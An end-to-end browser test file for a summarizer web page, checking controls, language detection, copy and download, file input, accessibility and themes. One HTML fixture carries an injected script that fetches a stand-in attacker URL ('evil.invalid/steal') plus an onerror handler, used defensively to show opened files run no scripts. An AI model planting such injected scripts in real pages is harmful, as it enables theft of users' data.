// The page (www/) in headless Debian Chromium: summarizing, the controls, the views, input
// and output, keyboard use, themes and phone width. Every test also checks that no request
// left the origin and nothing was logged as an error. Screenshots go to
// tests/e2e/screenshots/ for a human to look at.

import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { PASTED_ARTICLE, loadPrecis } from '../js/helpers.mjs';
import {
  BOILERPLATE, PHONE, assertClean, openPage, requireFiles, screenshot, start,
} from './helpers.mjs';
import { summaryItems, waitDone, waitForChange, waitForItems, waitReady } from './page-helpers.mjs';

let env;
let precis;
/** The build with every stemmer (pkg-all/), which the page loads for Arabic, Swedish… */
let precisAll;
const article = PASTED_ARTICLE;
before(async () => {
  requireFiles('pkg/precis.js', 'pkg/precis_bg.wasm', 'pkg-all/precis.js', 'pkg-all/precis_bg.wasm');
  precis = await loadPrecis();
  precisAll = await loadPrecis('pkg-all');
  env = await start();
});
after(() => env?.close());

/** The summary the engine itself gives (in Node), one item per chosen sentence. */
const expected = (options) => precis.summarize(article, options).sentences.filter((s) => s.selected).map((s) => s.text);

async function openWithArticle(contextOptions) {
  const session = await openPage(env, '/www/', contextOptions);
  await waitReady(session.page);
  await session.page.fill('#text', article);
  await waitDone(session.page);
  return session;
}

describe('summarizing', () => {
  test('the pasted article: summary, highlights in place, heat map, stats', async () => {
    const session = await openPage(env, '/www/');
    const { page } = session;
    await waitReady(page);
    assert.ok(await page.locator('#empty').isVisible(), 'empty state before any text');
    await screenshot(page, 'desktop-light-empty');

    await page.fill('#text', article);
    await waitForItems(page, 3);
    await waitDone(page);
    const items = await summaryItems(page);
    // The page's defaults (3 sentences, diversity 0.15, hybrid, English) are the engine's.
    assert.deepEqual(items, expected());
    for (const item of items) assert.doesNotMatch(item, BOILERPLATE);

    assert.deepEqual(await page.locator('#document mark').allTextContents(), items, 'the highlighted sentences are the summary');
    assert.equal(await page.locator('#document').textContent(), article, 'the view rebuilds the article exactly');
    assert.ok((await page.locator('#document .sentence.boilerplate').count()) > 0, 'boilerplate is marked');
    const scores = await page.locator('#document .sentence').evaluateAll((els) =>
      els.map((el) => Number.parseFloat(el.style.getPropertyValue('--score'))));
    assert.ok(scores.length > 3 && scores.every((x) => x >= 0 && x <= 1), `every sentence is shaded by score: ${scores}`);
    assert.ok(new Set(scores).size > 3, 'the shades differ');

    const stats = await page.locator('#stats').textContent();
    const match = stats.match(/^([\d,]+) → ([\d,]+) words \((\d+)%\) · (about [\d,]+ min|under a minute) of reading saved · 3 of (\d+) sentences$/);
    assert.ok(match, `stats: ${stats}`);
    const [before, afterCount] = [match[1], match[2]].map((n) => Number(n.replaceAll(',', '')));
    assert.ok(before > 300 && afterCount > 20 && afterCount < before / 2, stats);
    // The counts are the engine's (the same as its `words` budget counts).
    const engine = precis.summarize(article).sentences;
    assert.equal(before, engine.reduce((n, s) => n + s.wordCount, 0), stats);
    assert.equal(afterCount, engine.filter((s) => s.selected).reduce((n, s) => n + s.wordCount, 0), stats);
    assert.equal(Number(match[5]), precis.summarize(article).sentences.length);
    await screenshot(page, 'desktop-light-summary');
    assertClean(env, session);
    await session.context.close();
  });

  test('length, algorithm and diversity controls update the summary live', async () => {
    const session = await openWithArticle();
    const { page } = session;
    // The slider, by keyboard: two steps right is 5 sentences.
    await page.focus('#length-range');
    await page.keyboard.press('ArrowRight');
    await page.keyboard.press('ArrowRight');
    assert.equal(await page.inputValue('#length-number'), '5');
    await waitForItems(page, 5);
    assert.deepEqual(await summaryItems(page), expected({ sentences: 5 }));

    await page.fill('#length-number', '3');
    await waitForItems(page, 3);
    let items = await summaryItems(page);
    await page.selectOption('#algorithm', 'textrank');
    items = await waitForChange(page, items);
    assert.deepEqual(items, expected({ algorithm: 'textrank' }));

    await page.selectOption('#algorithm', 'hybrid');
    items = await waitForChange(page, items);
    await page.focus('#diversity');
    await page.keyboard.press('End');
    assert.equal(await page.locator('#diversity-value').textContent(), '1.00');
    items = await waitForChange(page, items);
    assert.deepEqual(items, expected({ diversity: 1 }));

    await page.click('label[for="mode-ratio"]');
    assert.equal(await page.locator('#length-label').textContent(), 'Share of the sentences');
    await waitForChange(page, items);
    assertClean(env, session);
    await session.context.close();
  });

  test('the language menu: Auto names the detected language; right-to-left text is shown so', async () => {
    const fixture = async (code) => (await readFile(new URL(`../data/languages/${code}.txt`, import.meta.url), 'utf8'))
      .split('\n').filter((line) => line.trim() !== '').join(' ');
    const session = await openPage(env, '/www/');
    const { page } = session;
    await waitReady(page);
    const codes = await page.locator('#language option').evaluateAll((options) => options.map((o) => o.value));
    assert.equal(codes.length, 29, `Auto and 28 languages: ${codes}`);
    assert.equal(codes[0], 'auto');
    assert.equal(await page.inputValue('#language'), 'auto', 'Auto is the default');
    const autoLabel = () => page.locator('#language option[value="auto"]').textContent();
    const allStemmers = () => session.requests.filter((url) => url.includes('/pkg-all/'));
    assert.deepEqual(allStemmers(), [], 'the build with every stemmer is not loaded up front');

    const arabic = await fixture('ar');
    await page.fill('#text', arabic);
    await waitForItems(page, 3);
    await waitDone(page);
    assert.equal(await autoLabel(), 'Auto (detected: Arabic)');
    // Arabic's stemmer is in pkg-all/ only: the page loaded it, and its summary is pkg-all's.
    assert.ok(allStemmers().some((url) => url.endsWith('/pkg-all/precis_bg.wasm')), 'pkg-all/ loaded for Arabic');
    assert.deepEqual(await summaryItems(page), precisAll.summarize(arabic).sentences.filter((s) => s.selected).map((s) => s.text));
    for (const id of ['summary', 'document']) {
      assert.equal(await page.locator(`#${id}`).getAttribute('dir'), 'auto', id);
    }
    // The text box follows its first letter (the page sets it: `dir="auto"` on a text box is
    // slow on very long texts).
    assert.equal(await page.locator('#text').getAttribute('dir'), 'rtl');
    for (const id of ['text', 'summary', 'document']) {
      assert.equal(await page.locator(`#${id}`).evaluate((el) => getComputedStyle(el).direction), 'rtl', id);
    }

    const french = await fixture('fr');
    await page.fill('#text', french);
    await waitDone(page);
    await page.waitForFunction(() => document.querySelector('#language option[value="auto"]').textContent.includes('French'));
    assert.equal(await autoLabel(), 'Auto (detected: French)');
    for (const id of ['text', 'summary']) {
      assert.equal(await page.locator(`#${id}`).evaluate((el) => getComputedStyle(el).direction), 'ltr', id);
    }
    await page.selectOption('#language', 'en');
    await page.waitForFunction(() => document.querySelector('#language option[value="auto"]').textContent === 'Auto');
    await waitDone(page);
    assertClean(env, session);
    await session.context.close();
  });

  test('a real clipboard paste (Ctrl+V) is summarized', async () => {
    const session = await openPage(env, '/www/');
    const { page, context } = session;
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: env.origin });
    await waitReady(page);
    await page.evaluate((text) => navigator.clipboard.writeText(text), article);
    await page.focus('#text');
    await page.keyboard.press('Control+V');
    await waitForItems(page, 3);
    assert.equal(await page.inputValue('#text'), article);
    assertClean(env, session);
    await context.close();
  });

  test('without live update, Ctrl+Enter (from any control) and the button summarize', async () => {
    const session = await openPage(env, '/www/');
    const { page } = session;
    await waitReady(page);
    await page.uncheck('#live');
    await page.fill('#text', article);
    await page.waitForTimeout(500);
    assert.equal((await summaryItems(page)).length, 0, 'no summary before asking');
    await page.press('#text', 'Control+Enter');
    await waitForItems(page, 3);

    await page.fill('#length-number', '2');
    await page.waitForTimeout(500);
    assert.equal((await summaryItems(page)).length, 3, 'still the old summary');
    await page.press('#algorithm', 'Control+Enter');
    await waitForItems(page, 2);
    await page.fill('#length-number', '4');
    await page.click('#summarize');
    await waitForItems(page, 4);
    assertClean(env, session);
    await session.context.close();
  });

  test('a rejected option and empty text show friendly messages', async () => {
    const session = await openWithArticle({ viewport: PHONE });
    const { page } = session;
    await page.click('label[for="mode-ratio"]');
    await page.fill('#length-number', '0');
    const error = page.locator('#error');
    await error.waitFor({ state: 'visible' });
    assert.match(await error.textContent(), /^Cannot summarize: .*"ratio".* Your text is kept\.$/);
    assert.equal(await page.getAttribute('#length-number', 'aria-invalid'), 'true');
    assert.ok(await page.locator('#results').isHidden(), 'no stale summary next to the error');
    assert.equal(await page.inputValue('#text'), article);
    await screenshot(page, 'phone-light-option-error');

    await page.fill('#length-number', '0.5');
    await error.waitFor({ state: 'hidden' });
    await page.locator('#results').waitFor({ state: 'visible' });

    await page.fill('#text', '   \n ');
    await page.locator('#empty').waitFor({ state: 'visible' });
    assert.ok(await page.locator('#results').isHidden());
    assertClean(env, session);
    await session.context.close();
  });

  test('"Try an example" loads our example text and summarizes it', async () => {
    const session = await openPage(env, '/www/', { colorScheme: 'dark' });
    const { page } = session;
    await waitReady(page);
    await page.click('#example');
    await waitForItems(page, 3);
    const example = await readFile(new URL('../../www/example.txt', import.meta.url), 'utf8');
    assert.equal(await page.inputValue('#text'), example);
    assert.doesNotMatch((await summaryItems(page)).join('\n'), BOILERPLATE);
    assertClean(env, session);
    await session.context.close();
  });
});

describe('views and output', () => {
  test('choosing a summary sentence scrolls to it in the article and focuses it', async () => {
    const session = await openWithArticle({ viewport: { width: 1280, height: 600 } });
    const { page } = session;
    await page.fill('#length-number', '5');
    await waitForItems(page, 5);
    const last = page.locator('#summary a').last();
    const text = await last.textContent();
    await last.click();
    await page.waitForFunction((t) => document.activeElement?.textContent === t && document.activeElement.tagName === 'MARK', text);
    const inView = await page.evaluate(() => {
      const box = document.activeElement.getBoundingClientRect();
      const view = document.getElementById('document').getBoundingClientRect();
      return box.top >= view.top - 1 && box.bottom <= view.bottom + 1 && box.top >= 0 && box.bottom <= innerHeight;
    });
    assert.ok(inView, 'the sentence is scrolled into view');
    // By keyboard: Enter on a focused summary link does the same.
    await page.focus('#summary a >> nth=0');
    await page.keyboard.press('Enter');
    await page.waitForFunction(() => document.activeElement?.id === document.querySelector('#summary a').getAttribute('href').slice(1));
    await screenshot(page, 'desktop-light-jump');
    assertClean(env, session);
    await session.context.close();
  });

  test('copy as plain text and as Markdown; download .txt and .md', async () => {
    const session = await openWithArticle();
    const { page, context } = session;
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: env.origin });
    const items = expected();
    const clipboard = () => page.evaluate(() => navigator.clipboard.readText());

    await page.click('#copy-text');
    await page.locator('#copy-status', { hasText: 'Copied.' }).waitFor();
    assert.equal(await clipboard(), precis.summarize(article).summary);
    assert.equal((await clipboard()).split('\n').length, 3);

    await page.click('#copy-markdown');
    await page.locator('#copy-status', { hasText: 'Copied as Markdown.' }).waitFor();
    const markdown = await clipboard();
    assert.deepEqual(markdown.split('\n').map((line) => line.slice(0, 2)), ['- ', '- ', '- ']);
    const unescape = (line) => line.slice(2).replace(/\\(.)/g, '$1');
    assert.deepEqual(markdown.split('\n').map(unescape), precis.summarize(article).summary.split('\n'));

    for (const [button, name, content] of [
      ['#download-text', 'summary.txt', `${precis.summarize(article).summary}\n`],
      ['#download-markdown', 'summary.md', `${markdown}\n`],
    ]) {
      const [download] = await Promise.all([page.waitForEvent('download'), page.click(button)]);
      assert.equal(download.suggestedFilename(), name);
      assert.equal(await readFile(await download.path(), 'utf8'), content);
    }
    assert.equal(items.length, 3);
    assertClean(env, session);
    await context.close();
  });
});

describe('input files', () => {
  const HTML = `<!doctype html><html><head><title>Ignored</title>
    <script>window.parent.pwned = true; fetch('http://evil.invalid/steal');</script>
    <style>p { color: red }</style></head>
    <body><nav>Home | News | Sport</nav>
    <article><h1>Harbour ferry returns</h1>
      <p>The harbour ferry will run again from <b>June</b>, the port authority said on Monday.</p>
      <p>The ferry stopped two years ago after its engine failed.</p>
      <img src="http://evil.invalid/pixel.png" onerror="window.parent.pwned = true">
      <p>Tickets will cost the same as a bus fare.</p></article>
    <iframe src="http://evil.invalid/"></iframe></body></html>`;
  const HTML_TEXT = 'Harbour ferry returns\n\nThe harbour ferry will run again from June, the port authority said on Monday.\n\n' +
    'The ferry stopped two years ago after its engine failed.\n\nTickets will cost the same as a bus fare.';

  test('opening an .html file: reduced to its article, scripts never run, nothing loaded', async () => {
    const session = await openPage(env, '/www/');
    const { page } = session;
    await waitReady(page);
    const [chooser] = await Promise.all([page.waitForEvent('filechooser'), page.click('#open-file')]);
    await chooser.setFiles({ name: 'ferry.html', mimeType: 'text/html', buffer: Buffer.from(HTML) });
    await page.waitForFunction((t) => document.getElementById('text').value === t, HTML_TEXT);
    await waitDone(page);
    assert.equal((await summaryItems(page)).length, 3);
    assert.equal(await page.evaluate(() => window.pwned), undefined, 'no script of the file ran');
    // The extractor (WebAssembly, in the worker) builds no DOM: nothing of the file is
    // applied, so not even a Content-Security-Policy refusal is logged.
    assertClean(env, session);
    await session.context.close();
  });

  test('dropping a .md or .txt file; a file of another kind is refused and the text kept', async () => {
    const session = await openPage(env, '/www/');
    const { page } = session;
    await waitReady(page);
    const drop = async (name, type, content) => {
      const dataTransfer = await page.evaluateHandle(([n, t, c]) => {
        const transfer = new DataTransfer();
        transfer.items.add(new File([c], n, { type: t }));
        return transfer;
      }, [name, type, content]);
      await page.dispatchEvent('#text', 'dragover', { dataTransfer });
      assert.ok(await page.locator('#input-panel.dragging').count(), 'the drop zone is highlighted');
      await page.dispatchEvent('#text', 'drop', { dataTransfer });
    };
    await drop('notes.md', 'text/markdown', '# Ferry news\n\nThe **harbour ferry** runs again. See [the timetable](http://x.invalid/t).\n\n- Tickets cost a bus fare.\n');
    await page.waitForFunction(() => document.getElementById('text').value ===
      'Ferry news\n\nThe harbour ferry runs again. See the timetable.\n\nTickets cost a bus fare.');
    assert.equal(await page.locator('#input-panel.dragging').count(), 0);

    await drop('article.txt', 'text/plain', article);
    await waitForItems(page, 3);
    assert.equal(await page.inputValue('#text'), article);

    await drop('photo.png', 'image/png', 'not text');
    await page.locator('#error', { hasText: '"photo.png" is not a .txt, .md or .html file' }).waitFor();
    assert.equal(await page.inputValue('#text'), article, 'the text is kept');
    assertClean(env, session);
    await session.context.close();
  });
});

describe('accessibility and layout', () => {
  test('keyboard: labels, focus order, visible focus', async () => {
    const session = await openPage(env, '/www/');
    const { page } = session;
    await waitReady(page);
    await page.click('#example');
    await waitForItems(page, 3);
    // Every form control has an accessible name.
    const unnamed = await page.evaluate(() =>
      [...document.querySelectorAll('input:not([hidden]), select, textarea, button')]
        .filter((el) => !el.labels?.length && !el.getAttribute('aria-labelledby') && !el.textContent.trim())
        .map((el) => el.id));
    assert.deepEqual(unnamed, []);

    await page.focus('#text');
    await page.keyboard.press('Shift+Tab');
    const order = [];
    for (let i = 0; i < 16; i += 1) {
      const focused = await page.evaluate(() => {
        const el = document.activeElement;
        const style = getComputedStyle(el);
        // Radio buttons are drawn by their label, which shows the focus ring.
        const ring = el.type === 'radio' ? getComputedStyle(el.labels[0]) : style;
        return { id: el.id || el.getAttribute('href') || el.tagName, ring: ring.outlineStyle !== 'none' && ring.outlineWidth !== '0px' };
      });
      order.push(focused.id);
      assert.ok(focused.ring, `${focused.id} shows where the focus is`);
      await page.keyboard.press('Tab');
    }
    assert.deepEqual(order.slice(0, 14), [
      'open-file', 'text', 'mode-sentences', 'length-range', 'length-number', 'diversity', 'algorithm',
      'language', 'live', 'summarize', 'copy-text', 'copy-markdown', 'download-text', 'download-markdown',
    ]);
    assert.deepEqual(order.slice(14), ['keyphrase-0', 'keyphrase-1'], 'then the keyphrase chips (before the summary links)');
    assertClean(env, session);
    await session.context.close();
  });

  test('"Show the scores" writes each score after its sentence, for keyboard and screen-reader users', async () => {
    const session = await openWithArticle();
    const { page } = session;
    const engine = precis.summarize(article).sentences;
    const shown = () => page.locator('#document .sentence').evaluateAll((els) =>
      els.map((el) => ({ score: el.dataset.score, after: getComputedStyle(el, '::after').content })));
    assert.ok((await shown()).every(({ after }) => after === 'none'), 'hidden at first');

    await page.focus('#show-scores');
    await page.keyboard.press('Space');
    assert.ok(await page.locator('#show-scores').isChecked());
    const scores = await shown();
    assert.equal(scores.length, engine.length);
    scores.forEach(({ score, after }, i) => {
      const s = engine[i];
      // The page's scores are the engine's, as 32-bit floats (typed arrays from the worker).
      assert.equal(score, s.boilerplate ? 'boilerplate' : Math.fround(s.score).toFixed(2), `sentence ${i}`);
      assert.ok(after.includes(`"${score}"`), `sentence ${i} shows ${score}: ${after}`);
    });
    // Screen readers get the score as text, worded: ", score 0.64" (CSS alternative text).
    const tree = await page.locator('#document').ariaSnapshot();
    const best = engine.find((s) => s.score === 1);
    assert.ok(tree.includes('score 1.00'), `the accessibility tree names the scores: ${tree.slice(0, 300)}`);
    assert.ok(best, 'one sentence has the best score');
    // The summary list shows them too; the text itself is unchanged.
    assert.ok((await page.locator('#summary a').first().evaluate((el) => getComputedStyle(el, '::after').content)).includes('"'));
    assert.equal(await page.locator('#document').textContent(), article);
    await screenshot(page, 'desktop-light-scores');
    assertClean(env, session);
    await session.context.close();
  });

  test('screen readers hear the status once it settles, not on every keystroke', async () => {
    const session = await openWithArticle();
    const { page } = session;
    assert.equal(await page.getAttribute('#status', 'aria-live'), null, 'the visible status line is not a live region');
    assert.equal(await page.getAttribute('#announcer', 'role'), 'status');
    await page.waitForFunction(() => document.getElementById('announcer').textContent !== '');
    assert.match(await page.locator('#announcer').textContent(), /^Summary ready: 3 of \d+ sentences\.$/);
    await page.evaluate(() => {
      window.changes = { status: 0, announcer: [] };
      const watch = (id, record) =>
        new MutationObserver(record).observe(document.getElementById(id), { childList: true, characterData: true, subtree: true });
      watch('status', () => (window.changes.status += 1));
      watch('announcer', () => window.changes.announcer.push(document.getElementById('announcer').textContent));
    });
    // Live update: every keystroke (slower than the 150 ms debounce) gets its own summary.
    await page.focus('#text');
    await page.keyboard.press('Control+End');
    // A new paragraph, so that the sentence count, and with it the announcement, changes.
    await page.keyboard.type('\n\nThe new ferries will be blue.', { delay: 250 });
    await page.waitForFunction(() => window.changes.announcer.length > 0);
    await page.waitForTimeout(1500);
    const changes = await page.evaluate(() => window.changes);
    assert.ok(changes.status >= 5, `the status line followed the summaries (${changes.status} changes)`);
    assert.equal(changes.announcer.length, 1, `one announcement: ${changes.announcer}`);
    assert.match(changes.announcer[0], /^Summary ready: 3 of \d+ sentences\.$/);
    assertClean(env, session);
    await session.context.close();
  });

  for (const colorScheme of ['light', 'dark']) {
    test(`${colorScheme} theme at desktop and phone width`, async () => {
      const session = await openWithArticle({ colorScheme });
      const { page } = session;
      const background = await page.evaluate(() => getComputedStyle(document.body).backgroundColor);
      const [r, g, b] = background.match(/\d+/g).map(Number);
      const luminance = (0.2126 * r + 0.7152 * g + 0.0722 * b) / 255;
      assert.ok(colorScheme === 'dark' ? luminance < 0.2 : luminance > 0.8, `${colorScheme} background ${background}`);
      await screenshot(page, `desktop-${colorScheme}-summary`);

      // A long summary makes the page taller than the window: scrolled to its end, both
      // cards still start at the top, side by side.
      await page.fill('#length-number', '10');
      await waitForItems(page, 10);
      await page.evaluate(() => window.scrollTo(0, document.documentElement.scrollHeight));
      const tops = await page.evaluate(() =>
        [...document.querySelectorAll('.layout > .panel')].map((panel) => panel.getBoundingClientRect().top + window.scrollY));
      assert.equal(tops.length, 2);
      assert.ok(Math.abs(tops[0] - tops[1]) < 1, `the cards start at the same height: ${tops}`);
      await screenshot(page, `desktop-${colorScheme}-long-summary`);

      await page.setViewportSize(PHONE);
      const overflow = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
      assert.ok(overflow <= 0, `no sideways scrolling at 390 px (${overflow} px too wide)`);
      const columns = await page.evaluate(() => getComputedStyle(document.querySelector('.layout')).gridTemplateColumns.split(' ').length);
      assert.equal(columns, 1, 'one column on a phone');
      await screenshot(page, `phone-${colorScheme}-summary`);
      assertClean(env, session);
      await session.context.close();
    });
  }
});

describe('loading failures', () => {
  for (const file of ['precis_bg.wasm', 'precis.js']) {
    test(`a missing pkg/${file} is reported on the page`, async () => {
      const context = await env.browser.newContext({ serviceWorkers: 'block' });
      const page = await context.newPage();
      await context.route(`**/pkg/${file}`, (route) => route.fulfill({ status: 404, body: 'not found' }));
      await page.goto(`${env.origin}/www/`);
      const banner = page.locator('#load-error');
      await banner.waitFor({ state: 'visible' });
      assert.match(await banner.textContent(), /could not be loaded/);
      assert.ok(await page.locator('#summarize').isDisabled(), 'the button stays disabled');
      if (file === 'precis_bg.wasm') await screenshot(page, 'desktop-light-load-error');
      await context.close();
    });
  }
});
